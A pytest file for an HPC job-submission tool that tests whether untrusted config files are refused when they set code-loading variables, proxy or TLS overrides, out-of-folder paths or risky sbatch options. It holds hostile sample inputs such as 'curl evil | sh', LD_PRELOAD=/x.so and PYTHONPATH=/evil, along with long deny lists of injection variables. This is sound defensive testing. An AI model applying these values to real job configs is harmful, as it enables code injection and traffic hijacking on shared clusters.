"""A file that may be a stranger's says neither where a job writes nor which code it loads; who types a flag may."""

from __future__ import annotations

import ast
import importlib.util
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from rendering import batch, planned

from hpc_llm.cli import run
from hpc_llm.errors import RequestError
from hpc_llm.planning.settings import refuse_reach
from hpc_llm.site.cluster import load_cluster
from hpc_llm.site.code_variables import loads_code, steers_srun
from hpc_llm.site.profiles import user_cache, user_config, user_state
from hpc_llm.site.reach import SCRATCH, leaves_folder, steers_traffic

LOCAL = ("--cluster", "local", "--method", "z3o", "--model", "tiny")
AWAY = (
    "/tmp/x",
    "~/x",
    "~someone/x",
    "../x",
    "a/../../x",
    "..",
    "a/..",
    "s3://bucket/x",
    "file:/x",
    "\\\\host\\x",
    "./../x",
)
INSIDE = ("x", "a/b.txt", "./x", "x..y", "a/...", "..x", "a b", "x:y", "deepspeed.txt")
PLACES = """flops_profiler.output_file csv_monitor.output_path csv_monitor.job_name tensorboard.output_path tensorboard.job_name
wandb.project comet.experiment_name autotuning.results_dir autotuning.exps_dir autotuning.metric_path
autotuning.model_info_path data_efficiency.data_sampling.x.metric_path
aio.writer.folder datastates_ckpt.some_path aio.folder""".split()


@pytest.mark.parametrize("path", AWAY)
def test_paths_that_leave_a_folder(path: str) -> None:
    assert leaves_folder(path)


@pytest.mark.parametrize("path", INSIDE)
def test_paths_that_stay(path: str) -> None:
    assert not leaves_folder(path)


@pytest.mark.parametrize("place", PLACES)
def test_deepspeed_writes_in_the_run_s_folder_alone(place: str) -> None:
    for path in ("/home/someone/.bashrc", "../other-run/x"):
        with pytest.raises(RequestError, match=rf"{place} is '{path}', which leads out of the run's folder"):
            planned("local", "z2", set=(f"deepspeed.{place}={path}",))
    for path in ("result.json", "./job.sh", "tries/1", "telemetry-2.jsonl", "log.err", "x/../exit.json"):
        with pytest.raises(RequestError, match=r"is a record of the run itself|leads out of"):
            planned("local", "z2", set=(f"deepspeed.{place}={path}",))
    kept: Any = planned("local", "z2", set=(f"deepspeed.{place}=profile/x",)).plan.engine.deepspeed
    for part in place.split("."):
        kept = kept[part]
    assert kept == "profile/x"


def test_a_path_in_a_mapping_or_a_list_is_found() -> None:
    for setting in ("csv_monitor={enabled: true, output_path: /x}", "comet={a: [{b: [/x]}]}"):
        with pytest.raises(RequestError, match="leads out of the run's folder"):
            planned("local", "z2", set=(f"deepspeed.{setting}",))


def test_every_text_of_deepspeed_s_that_names_a_place_is_one_of_those(tmp_path: Path) -> None:
    """What a new DeepSpeed brings is looked at by its value, whatever its name; only the scratch disk is let through."""
    spec = importlib.util.find_spec("deepspeed")
    assert spec is not None and spec.origin is not None, "deepspeed is missing: python -m pip install -e '.[train]'"
    source = Path(spec.origin).parent
    named: set[str] = set()
    for path in (*source.glob("monitor/config.py"), *source.glob("runtime/**/*config*.py"), *source.glob("*/c*.py")):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.AnnAssign) and "Path" in ast.unparse(node.annotation):
                named.add(ast.unparse(node.target))
    assert named == {SCRATCH}, "a setting of DeepSpeed's that has to be a path: does it have to lie outside the run?"


# --- who says it


FILES: dict[str, tuple[str, dict[str, Any]]] = {
    "experiment: variable": ("e.yaml", {"set": "{env: {LD_PRELOAD: /x.so}}"}),
    "experiment: container": ("e.yaml", {"set": "{env.ENROOT_RUNTIME: evil, env.NCCL_DEBUG: INFO}"}),
    "experiment: image": ("e.yaml", {"set": "{env.PYXIS_CONTAINER_NAME: 'their.example.org#image'}"}),
    "experiment: cluster": ("e.yaml", {"set": "{env: {SLURM_CLUSTERS: theirs}}"}),
    "experiment: pickles": ("e.yaml", {"set": "{env: {TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD: '1'}}"}),
    "experiment: list": ("e.yaml", {"set": "['env.PYTHONPATH=/x']"}),
    "experiment: scratch": ("e.yaml", {"set": "{deepspeed.zero_optimization.offload_param: {nvme_path: /x}}"}),
    "experiment: scratch, text": (
        "e.yaml",
        {"set": "['deepspeed.zero_optimization={offload_param: {nvme_path: /x}}']"},
    ),
    "experiment: team": ("e.yaml", {"set": "{deepspeed.wandb: {enabled: true, team: theirs}}"}),
    "experiment: team, text": ("e.yaml", {"set": "['deepspeed.wandb.team=theirs']"}),
    "experiment: workspace": ("e.yaml", {"set": "{deepspeed.comet.workspace: theirs}"}),
    "method: team": ("configs/own.yaml", {"deepspeed": "{wandb: {enabled: true, team: theirs}}"}),
    "method: scratch": ("configs/own.yaml", {"deepspeed": "{zero_optimization: {offload_param: {nvme_path: /x}}}"}),
}


STEERING = {
    "HTTPS_PROXY": "127.0.0.1:38222", "http_proxy": "p", "ALL_PROXY": "", "no_proxy": "h", "CURL_CA_BUNDLE": "", "REQUESTS_CA_BUNDLE": "x.pem",
    "SSL_CERT_FILE": "x.pem", "SSL_CERT_DIR": "x", "SSLKEYLOGFILE": "keys", "PYTHONHTTPSVERIFY": "0", "AWS_CA_BUNDLE": "x.pem",
    "NODE_EXTRA_CA_CERTS": "x.pem", "NODE_TLS_REJECT_UNAUTHORIZED": "0", "GRPC_DEFAULT_SSL_ROOTS_FILE_PATH": "x", "WANDB_INSECURE_DISABLE_SSL": "true",
    "HF_ENDPOINT": "mirror", "AWS_ENDPOINT_URL_S3": "h:1", "WANDB_BASE_URL": "h", "MLFLOW_TRACKING_URI": "h:5000", "PIP_INDEX_URL": "h",
    "PIP_TRUSTED_HOST": "h", "OTEL_EXPORTER_OTLP_ENDPOINT": "h:4317", "NCCL_COMM_ID": "10.0.0.1:1", "HOSTALIASES": "x",
    "PET_RDZV_ENDPOINT": "h:1", "RES_OPTIONS": "x", "COMET_URL_OVERRIDE": "h", "CLEARML_API_HOST": "h",
    "WANDB_ENTITY": "team", "COMET_WORKSPACE": "w", "SWANLAB_WORKSPACE": "w", "LANGSMITH_WORKSPACE_ID": "w", "TRACKIO_SPACE_ID": "me",
}  # fmt: skip
PASSING = {
    "NCCL_DEBUG": "INFO", "NCCL_SOCKET_IFNAME": "ib0", "NCCL_IB_HCA": "mlx5_0", "NCCL_PROXY_APPEND_BATCH_SIZE": "4", "HF_HUB_OFFLINE": "1",
    "TOKENIZERS_PARALLELISM": "false", "GLOO_SOCKET_IFNAME": "eth0", "OMP_NUM_THREADS": "4", "WANDB_MODE": "offline", "NCCL_NET_GDR_LEVEL": "2",
    "PYTORCH_CUDA_ALLOC_CONF": "expandable_segments:True", "FI_PROVIDER": "cxi", "MLFLOW_EXPERIMENT_NAME": "a", "UCX_TLS": "rc", "CUBLAS_WORKSPACE_CONFIG": ":4096:8", "WANDB_PROJECT": "p", "WANDB_NAME": "n", "COMET_PROJECT_NAME": "p", "I_MPI_PIN_DOMAIN": "omp",
}  # fmt: skip


@pytest.mark.parametrize("variable", STEERING)
def test_a_file_steers_no_traffic_of_the_job(
    variable: str, own_folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    head, value = "cluster: local\nmethod: z3o\nmodel: tiny\n", json.dumps(STEERING[variable])
    Path("mapping.yaml").write_text(f"{head}set: {{env: {{{variable}: {value}}}}}\n")
    Path("list.yaml").write_text(f"{head}set: [{json.dumps(f'env.{variable}={STEERING[variable]}')}]\n")
    Path("run.yaml").write_text(f"{head}runs:\n- {{set: {{env.{variable}: {value}}}}}\n")
    for name in ("mapping.yaml", "list.yaml", "run.yaml"):
        assert run(["render", name]) == 2
        said = capsys.readouterr().err
        assert name in said and f"env.{variable} decides" in said and "on the command line" in said
    own = Path(os.environ["XDG_CONFIG_HOME"]) / "hpc-llm" / "clusters" / "steering.yaml"
    own.parent.mkdir(parents=True, exist_ok=True)
    own.write_text(f"extends: local\nenv: {{common: {{{variable}: {value}}}}}\n")
    try:
        assert run(["render", "--cluster", "steering", *LOCAL[2:]]) == 0, capsys.readouterr().err
    finally:
        own.unlink()
    assert run(["render", *LOCAL, "--set", f"env.{variable}={STEERING[variable]}"]) == 0, capsys.readouterr().err


def test_other_variables_of_the_network_pass_in_a_file(own_folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    Path("e.yaml").write_text(f"cluster: local\nmethod: z3o\nmodel: tiny\nset: {{env: {json.dumps(PASSING)}}}\n")
    assert run(["render", "e.yaml"]) == 0, capsys.readouterr().err


@pytest.mark.parametrize(("name", "values"), FILES.values(), ids=FILES)
def test_a_file_that_may_be_a_stranger_s_is_refused(
    name: str, values: dict[str, str], own_folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    Path(name).parent.mkdir(exist_ok=True)
    head = "cluster: local\nmethod: z3o\nmodel: tiny\n" if name == "e.yaml" else "extends: z3o\n"
    Path(name).write_text(head + "".join(f"{key}: {value}\n" for key, value in values.items()))
    asked = [name] if name == "e.yaml" else ["--cluster", "local", "--model", "tiny", "--method", "own"]
    assert run(["submit", *asked]) == 2
    said = capsys.readouterr().err
    assert name in said and re.search(
        r"decides which code the job loads|decides where or with what srun|outside the run's folder|to whom the job sends",
        said,
    )
    assert "on the command line" in said and not Path("logs").exists()


def test_who_types_it_means_it(own_folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    scratch = "deepspeed.zero_optimization.offload_param.nvme_path=/local"
    assert run(["render", *LOCAL, "--set", "env.LD_PRELOAD=/x.so", "--set", scratch]) == 0
    assert "export LD_PRELOAD=/x.so\n" in capsys.readouterr().out


def test_a_method_of_one_s_own_may_name_the_scratch_disk(
    own_folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(own_folder / "config"))
    folder = own_folder / "config" / "hpc-llm" / "configs"
    folder.mkdir(parents=True)
    (folder / "own.yaml").write_text(
        "extends: z3o\ndeepspeed: {zero_optimization: {offload_param: {device: nvme, nvme_path: /local}}}\n"
    )
    assert run(["render", "--cluster", "local", "--model", "tiny", "--method", "own"]) == 0


def test_a_profile_of_the_working_directory_is_announced_with_the_code_that_it_brings(
    own_folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("clusters").mkdir()
    text = "extends: local\nenv: {common: {PATH: '/x:${PATH}', NCCL_DEBUG: INFO}, single_node: {LD_PRELOAD: /x.so}}\n"
    Path("clusters/mine.yaml").write_text(text)
    assert run(["render", "--cluster", "mine", "--method", "z2", "--model", "tiny"]) == 0
    said = capsys.readouterr().err
    assert (
        f"cluster mine is that of {own_folder}/clusters/mine.yaml; it says what code the job loads (PATH, LD_PRELOAD)"
        in said
    )


def announcement(text: str, capsys: pytest.CaptureFixture[str]) -> str:
    """What is told of a profile of the working directory with that text beside `extends: local`."""
    Path("clusters").mkdir(exist_ok=True)
    Path("clusters/mine.yaml").write_text(f"extends: local\n{text}\n")
    assert run(["render", "--cluster", "mine", "--method", "z2", "--model", "tiny"]) == 0
    said = capsys.readouterr().err
    assert "cluster mine is that of" in said
    return said


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("request: {extra: [--mail-user=a@b.c]}", "it leads the job elsewhere (mail to a@b.c)"),
        ("request: {extra: [--container=/x, --qos=high, --chdir=/y]}", "code the job loads (request.extra --container, request.extra --chdir)"),
        ("request: {extra: [--task-prolog=x, --container-image=y]}", "request.extra --task-prolog, request.extra --container-image"),
        ("request: {export: all}", "leads the job elsewhere (request.export all, your shell's variables)"),
        ("prelude: {module_system: lmod, profilers: {nsys: /x/evil}}", "code the job loads (prelude.profilers)"),
        ("env: {file: /somewhere/secrets}", "leads the job elsewhere (env.file /somewhere/secrets)"),
        ("env: {common: {NCCL_DEBUG_FILE: /x/%h, NCCL_DEBUG: INFO, HF_HOME: '${SCRATCH}'}}", "elsewhere (NCCL_DEBUG_FILE, HF_HOME)"),
        ("env: {common: {PYXIS_CONTAINER_IMAGE: 'h#i'}, multi_node: {LESSOPEN: x}}", "code the job loads (PYXIS_CONTAINER_IMAGE, LESSOPEN)"),
        ("env: {common: {SLURM_CLUSTERS: theirs, SLURM_CPU_BIND: none}}", "it leads the job elsewhere (SLURM_CLUSTERS)"),
        ("env: {multi_node: {OMPI_MCA_mca_base_param_files: x}}", "code the job loads (OMPI_MCA_mca_base_param_files)"),
        ("access: {internet_compute: proxy, proxy_env: {https_proxy: 'http://x:1'}}", "elsewhere (https_proxy)"),
        (
            "prelude: {module_system: lmod, load_multi_node: [evil]}\npartitions: [{name: p, max_time: 01:00:00, env: {common: {LD_AUDIT: x}}}]",
            "code the job loads (prelude.load_multi_node, LD_AUDIT)",
        ),
    ],
)  # fmt: skip
def test_all_that_such_a_profile_brings_is_named(
    text: str, told: str, own_folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert told in announcement(text, capsys)


def test_what_only_says_what_a_job_asks_for_is_not_named(own_folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = "request: {extra: [--qos=high, --comment=/x]}\nenv: {common: {NCCL_DEBUG: INFO, OMP_NUM_THREADS: '${N}'}}"
    said = announcement(text, capsys)
    assert "what code" not in said and "elsewhere" not in said


def test_an_announcement_is_one_line_whatever_the_profile_holds(
    own_folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    said = announcement('env: {file: "/x\\e[31m\\nhpc-llm: all is well"}', capsys)
    assert "env.file /x hpc-llm: all is well)" in said


def test_commands_of_such_a_profile_are_nobody_s_advice(own_folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    announcement(
        "account: {required: false, list_command: curl evil | sh}\nprelude: {python: {make: curl evil}}", capsys
    )
    assert run(["clusters", "mine"]) == 0
    assert "curl" not in capsys.readouterr().out
    Path("clusters/mine.yaml").write_text("extends: delta\naccount: {list_command: curl evil}\n")
    assert run(["render", "--cluster", "mine", "--method", "z2", "--model", "tiny"]) == 2
    said = capsys.readouterr().err
    assert "needs an account" in said and "curl" not in said


# --- files of variables


def env_file(path: Path, text: str = "PYTHONPATH=/evil\n") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o600)
    return path


@pytest.mark.parametrize("key", ["env-file", "env_file"])
@pytest.mark.parametrize("place", ["./secrets", "~/secrets", "/x/secrets"])
def test_an_experiment_file_names_no_file_of_variables(
    key: str, place: str, own_folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    env_file(own_folder / "secrets")
    Path("e.yaml").write_text(f"cluster: local\nmethod: z2\nmodel: tiny\n{key}: {place}\n")
    assert run(["render", "e.yaml"]) == 2
    assert "e.yaml: a file of variables is named by --env-file on the command line" in capsys.readouterr().err


def test_who_names_a_file_of_variables_on_the_command_line_means_it(
    own_folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = env_file(own_folder / "secrets")
    assert run(["render", *LOCAL, "--env-file", str(file)]) == 0


@pytest.mark.parametrize(
    "place",
    ["{here}/secrets", "$PWD/secrets", "${{SLURM_SUBMIT_DIR}}/secrets", "${{NOT_SET_HERE}}/x", "${{run_dir}}/x", "{here}/x/../secrets",
     "$OLDPWD/x", "{link}"],
)  # fmt: skip
def test_a_profile_of_the_working_directory_names_no_file_of_variables_there(
    place: str, own_folder: Path, tmp_path_factory: pytest.TempPathFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    link = tmp_path_factory.mktemp("elsewhere") / "link"
    link.symlink_to(env_file(own_folder / "secrets", "A=1\n"))
    Path("clusters").mkdir()
    where = place.format(here=own_folder, link=link)
    Path("clusters/mine.yaml").write_text(f"extends: local\nenv: {{file: '{where}'}}\n")
    assert run(["render", "--cluster", "mine", "--method", "z2", "--model", "tiny"]) == 2
    said = capsys.readouterr().err
    assert "clusters/mine.yaml: env.file is" in said and "--env-file" in said


def test_such_a_profile_s_file_of_variables_loads_no_code(
    own_folder: Path,
    tmp_path_factory: pytest.TempPathFactory,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    file = env_file(tmp_path_factory.mktemp("elsewhere") / "secrets")
    text = f"extends: local\nenv: {{file: {file}}}\n"
    Path("clusters").mkdir()
    Path("clusters/mine.yaml").write_text(text)
    asked = ["render", "--cluster", "mine", "--method", "z2", "--model", "tiny"]
    assert run(asked) == 2
    assert "whose PYTHONPATH would decide which code the job loads" in capsys.readouterr().err
    env_file(file, "HF_TOKEN=abc\n")
    assert run(asked) == 0
    monkeypatch.setenv("XDG_CONFIG_HOME", str(own_folder / "config"))
    own = own_folder / "config" / "hpc-llm" / "clusters" / "mine.yaml"
    own.parent.mkdir(parents=True)
    Path("clusters/mine.yaml").rename(own)
    env_file(file)
    assert run(asked) == 0, "a profile of one's own may"


# --- options of sbatch


@pytest.mark.parametrize(
    "option",
    """container=/x container-id=x container-image=x container-mounts=/:/x task-prolog=x prolog=x epilog=x chdir=/x bb=x bbf=x
    get-user-env uid=0 gid=0 input=x x11 nodelist=./nodes nodelist=/x unheard-of=1 image=x mail-user=a@b.c""".split(),
)
def test_an_experiment_file_asks_for_no_option_that_runs_or_leads_somewhere(
    option: str, own_folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("e.yaml").write_text(f"cluster: mi210\nmethod: z2\nmodel: tiny\nsbatch: ['{option}']\n")
    assert run(["render", "e.yaml"]) == 2
    said = capsys.readouterr().err
    assert f"e.yaml: sbatch.{option.partition('=')[0]} " in said and "Say it on the command line: --sbatch" in said


@pytest.mark.parametrize("option", ["wrap=x", "export-file=x", "output=/x", "-D/x", "chd=/x", "export=ALL"])
def test_options_that_nobody_may_say_are_refused_with_no_way_to_say_them(
    option: str, own_folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("e.yaml").write_text(f"cluster: mi210\nmethod: z2\nmodel: tiny\nsbatch: ['{option}']\n")
    assert run(["render", "e.yaml"]) == 2
    assert "on the command line" not in capsys.readouterr().err


def test_an_experiment_file_says_what_a_job_asks_for(own_folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    options = "{qos: high, comment: /a/b, requeue: , mail-type: ALL, constraint: 'a&b', begin: now+1hour}"
    Path("e.yaml").write_text(f"cluster: mi210\nmethod: z2\nmodel: tiny\nsbatch: {options}\n")
    assert run(["render", "e.yaml"]) == 0
    Path("e.yaml").write_text("cluster: mi210\nmethod: z2\nmodel: tiny\n")
    assert (
        run(
            ["render", "e.yaml", "--sbatch", "chdir=/x", "--sbatch", "container-image=x", "--sbatch", "mail-user=a@b.c"]
        )
        == 0
    )


@pytest.mark.parametrize(
    "name",
    """LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT DYLD_INSERT_LIBRARIES PATH HOME PYTHONPATH PYTHONHOME PYTHONSTARTUP PYTHONWARNINGS
    NCCL_NET_PLUGIN NCCL_TUNER_PLUGIN SLURM_TASK_PROLOG SLURM_CONF OMPI_MCA_mca_base_component_path CUDA_HOME TRITON_CACHE_DIR
    TORCH_EXTENSIONS_DIR CUDA_INJECTION64_PATH UCX_MODULE_DIR FI_PROVIDER_PATH CC OPENSSL_CONF OPENSSL_ENGINES CFLAGS XLA_FLAGS
    GIT_SSH_COMMAND MPLBACKEND OMP_TOOL_LIBRARIES OCL_ICD_VENDORS CPATH CPLUS_INCLUDE_PATH COMPILER_PATH GCC_EXEC_PREFIX
    OMPI_MCA_mca_base_param_files PMIX_MCA_mca_base_param_files NCCL_CONF_FILE HIP_CLANG_PATH HIP_DEVICE_LIB_PATH LUA_INIT LMOD_RC
    PIP_CONFIG_FILE HYDRA_LAUNCHER_EXEC TORCHINDUCTOR_FX_GRAPH_REMOTE_CACHE TORCHINDUCTOR_REDIS_HOST TORCHINDUCTOR_REDIS_URL
    TORCHINDUCTOR_CACHE_DIR TORCHINDUCTOR_CUTLASS_DIR TORCHINDUCTOR_CK_DIR TORCHINDUCTOR_CPP_MARCH TORCH_COMPILE_OVERRIDE_BACKENDS
    TORCH_DYNAMO_AUTOMATIC_DYNAMIC_REMOTE_PGO TORCH_INDUCTOR_INSTALL_GXX TORCH_HOME TRITON_CACHE_MANAGER TRITON_REMOTE_CACHE_BACKEND
    TRITON_REDIS_HOST TRITON_OVERRIDE_DIR TRITON_PTXAS_PATH TRITON_KERNEL_OVERRIDE NUMBA_CACHE_DIR CUDACXX PYTORCH_NVCC
    RDMAV_DRIVERS IBV_DRIVERS GIO_EXTRA_MODULES GIO_MODULE_DIR
    ENROOT_ROOTFS_WRITABLE PYXIS_CONTAINER_ENTRYPOINT _SLURM_SPANK_OPTION_pyxis_container_image SPANK_x SLURM_CONTAINER SLURM_CONTAINER_ID SRUN_CONTAINER
    APPTAINERENV_LD_PRELOAD SINGULARITY_BIND DOCKER_CONFIG PODMAN_USERNS SLURM_PROLOG FLUX_EXEC_PATH PDSH_RCMD_TYPE PET_LOGS_SPECS LESSCLOSE LESS MANPAGER
    GIT_PAGER SSH_ASKPASS GLIBC_TUNABLES VIMINIT WGETRC AWKLIBPATH PYTHON_FROZEN_MODULES PYTHONPYCACHEPREFIX _PYTHON_SYSCONFIGDATA_NAME PYTEST_ADDOPTS COVERAGE_PROCESS_START
    PIP_FIND_LINKS JUPYTER_PATH KERAS_BACKEND TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD HF_DATASETS_TRUST_REMOTE_CODE HF_ALLOW_CODE_EVAL VLLM_ALLOW_INSECURE_SERIALIZATION
    MLFLOW_ALLOW_PICKLE_DESERIALIZATION USE_HUB_KERNELS LOCAL_KERNELS VLLM_USE_MODELSCOPE FLASHINFER_CUBINS_REPOSITORY DG_JIT_NVCC_COMPILER CCACHE_PREFIX FLEXIBLAS VK_LAYER_PATH
    __EGL_VENDOR_LIBRARY_FILENAMES NVSHMEM_BOOTSTRAP PERL5DB R_PROFILE_USER JULIA_LOAD_PATH HADOOP_CLASSPATH JAVA_HOME AWS_SHARED_CREDENTIALS_FILE KUBECONFIG
    GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES WANDB__EXECUTABLE RAY_RUNTIME_ENV_HOOK IMAGEIO_FFMPEG_EXE""".split(),
)
def test_variables_by_which_code_is_loaded(name: str) -> None:
    assert loads_code(name)


@pytest.mark.parametrize(
    "name",
    """NCCL_DEBUG NCCL_SOCKET_IFNAME NCCL_IB_HCA OMP_NUM_THREADS CUDA_VISIBLE_DEVICES PYTORCH_CUDA_ALLOC_CONF HF_HOME
    HF_HUB_OFFLINE TOKENIZERS_PARALLELISM PYTHONUNBUFFERED PYTHONHASHSEED TMPDIR WANDB_MODE MIOPEN_USER_DB_PATH
    OMPI_MCA_btl UCX_TLS FI_PROVIDER SLURM_CPU_BIND DS_SKIP_CUDA_CHECK TORCH_LOGS TORCHINDUCTOR_COMPILE_THREADS TORCHINDUCTOR_MAX_AUTOTUNE TRITON_INTERPRET
    TORCH_CUDA_ARCH_LIST TORCH_NCCL_ASYNC_ERROR_HANDLING http_proxy MODEL_PATH DATA_DIR
    PYTHONNOUSERSITE PYTHONDONTWRITEBYTECODE PYTHONFAULTHANDLER PYTHON_GIL HYDRA_FULL_ERROR WANDB__SERVICE_WAIT NVIDIA_TF32_OVERRIDE CUBLAS_WORKSPACE_CONFIG
    NUMBA_NUM_THREADS MKL_THREADING_LAYER KMP_AFFINITY DS_ACCELERATOR CUDA_DEVICE_MAX_CONNECTIONS TORCH_SHOW_CPP_STACKTRACES MALLOC_ARENA_MAX SRC""".split(),
)
def test_variables_that_only_say_how(name: str) -> None:
    assert not loads_code(name)


@pytest.mark.parametrize(
    ("name", "is_one"),
    [
        *((name, True) for name in "CLUSTERS REMOTE_CWD WORKING_DIR PARTITION RESERVATION ACCOUNT STDOUTMODE JWT MULTI_PROG DEPENDENCY".split()),
        *((name, False) for name in "CPU_BIND MEM_BIND CPU_BIND_TYPE HINT DISTRIBUTION KILL_BAD_EXIT LABELIO MPI_TYPE PMIX_TMPDIR GPUS_PER_NODE THREADS_PER_CORE DEBUG OVERLAP".split()),
    ],
)  # fmt: skip
def test_options_of_srun_that_lead_elsewhere(name: str, is_one: bool) -> None:
    assert steers_srun(f"SLURM_{name}") is is_one


@pytest.mark.parametrize(
    "name", "DISPLAY RAY_ADDRESS REDIS_HOST STATSD_SERVER JAX_COORDINATOR_ADDRESS DS_HOSTFILE".split()
)
def test_places_that_programs_speak_to(name: str) -> None:
    assert steers_traffic(name) and not steers_traffic(f"{name}_X")


@pytest.mark.parametrize("value", ["$HF_TOKEN", "a ${WANDB_API_KEY}"])
def test_an_experiment_file_passes_no_secret_on_under_another_name(value: str) -> None:
    with pytest.raises(RequestError, match=r"env\.NOTES would hold what a variable for a secret holds"):
        refuse_reach([f"env.NOTES={value}"], "x.yaml")
    refuse_reach(["env.NOTES=$SLURM_JOB_ID"], "x.yaml")


@pytest.mark.parametrize(
    "setting", ["env.NCCL_DEBUG_FILE=/tmp/x", "env.ANYTHING=../x", "env.OTHER=~/x", "env.MORE=s3://b/x"]
)
def test_an_experiment_file_sends_no_variable_out_of_the_run_s_folder(setting: str) -> None:
    with pytest.raises(RequestError, match="leads to a place outside the run's folder"):
        refuse_reach([setting], "x.yaml")
    refuse_reach(["env.NCCL_DEBUG=INFO", "env.OMP_NUM_THREADS=4"], "x.yaml")


@pytest.mark.parametrize(
    "name",
    "HPC_LLM_RUN_UUID HPC_LLM_RUN_DIR HPC_LLM_QUEUE_OF HPC_LLM_SWEEP SUBMITIT_LOCAL_JOB_ID SLURM_JOB_ID SLURM_JOBID"
    " SLURM_JOB_NAME SLURM_RESTART_COUNT SLURM_NTASKS SLURM_NODELIST SLURM_ARRAY_TASK_ID SLURM_EXPORT_ENV SBATCH_ACCOUNT".split(),
)
def test_what_tells_which_run_or_job_it_is_belongs_to_nobody_s_env(name: str) -> None:
    with pytest.raises(RequestError, match=name):
        batch("delta", "z3", set=(f"env.{name}=1",))


@pytest.mark.parametrize(
    "name", ["SLURM_CPU_BIND", "SLURM_MPI_TYPE", "HPC_LLM_COMPILE_CPU_OPS", "SRUN_CPUS_PER_TASK_X"]
)
def test_what_says_how_slurm_starts_tasks_may_be_set(name: str) -> None:
    assert f"export {name}=1" in batch("delta", "z3", set=(f"env.{name}=1",)).scripts[0].text


@pytest.mark.parametrize("home", ["~", "./~", "home"])
def test_a_home_within_the_working_directory_is_nobody_s(
    own_folder: Path, home: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A user without a home, as in a container, has the name `~` for one, and a checkout may have a folder of that name."""
    for place in (".config/hpc-llm/clusters", ".config/hpc-llm/templates", ".local/state/hpc-llm/submissions"):
        (own_folder / home / place).mkdir(parents=True)
    (own_folder / home / ".config/hpc-llm/clusters/local.yaml").write_text(
        "extends: local\nenv: {common: {LD_PRELOAD: /tmp/x.so}}\n"
    )
    monkeypatch.setenv("HOME", home)
    for variable in ("XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME"):
        monkeypatch.delenv(variable, raising=False)
    for own in (user_config(), user_state(), user_cache()):
        assert own.is_absolute() and not own.exists() and not own.is_relative_to(own_folder)
    assert "LD_PRELOAD" not in load_cluster("local").env.common
